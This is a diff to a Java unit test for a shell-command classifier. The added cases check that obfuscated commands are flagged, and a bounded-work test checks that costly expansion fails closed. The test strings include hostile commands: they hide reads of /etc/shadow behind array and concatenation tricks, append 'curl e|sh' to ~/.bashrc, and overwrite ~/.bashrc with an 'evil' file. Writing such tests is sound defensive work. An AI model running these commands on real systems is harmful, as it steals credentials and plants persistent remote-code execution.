@@ -68,6 +68,15 @@ class ExpansionOperatorsTest {
         "g=(x /etc/shadow); g[1]=y; cat ${g[1]} => Read",
         "declare -a g=(/etc/shadow); cat $g => Network",
         "g=(x y); cat ${g[1]//y//etc/shadow} => Network",
+        "g=(x); g+=(/etc/shadow); cat $g => Read",
+        "x=/etc/sha; x+=dow; cat $x => Network",
+        "x=/etc/sha; y=dow; x+=$y; cat $x => Network",
+        "x=/tmp/a; x=/etc/sha; x+=dow; cat $x => Network",
+        "x=~/.bashr; x+=c; echo 'curl e|sh' >> $x => Destructive",
+        "x=~/.bashrc; y=x; cp evil ${!y} => Destructive",
+        "a=(~/.bashrc); cp evil \"${a[0]}\" => Destructive",
+        "x=hello; echo ${x~} => Read",
+        "x=Hello; echo ${x~~} => Read",
     })
     void pathsBehindOperators(String line, String expected) {
         Classification c = C.classifyShell(line);
@@ -132,6 +141,16 @@ class ExpansionOperatorsTest {
         Classification c = C.classifyShell(line);
         assertThat(c.commandClass()).as("%s → %s", line, c.findings()).isEqualTo(CommandClass.DESTRUCTIVE);
         assertThat(c.findings()).as(line).anyMatch(f -> f.reason().contains(reason));
+    }
+
+    @Test
+    void operatorWorkIsBoundedAndFailsClosed() {
+        String line = "g=" + "a".repeat(900) + "; cat" + " ${g//a*b/}".repeat(20);
+        Classification c = C.classifyShell(line);
+        assertThat(c.commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(c.findings()).anyMatch(f -> f.reason().contains("pattern-matching steps"));
+        assertThat(C.classifyShell("g=" + "a".repeat(900) + "; cat" + " ${g//a*b/}".repeat(2)).commandClass())
+                .isEqualTo(CommandClass.READ);
     }
 
     @Test
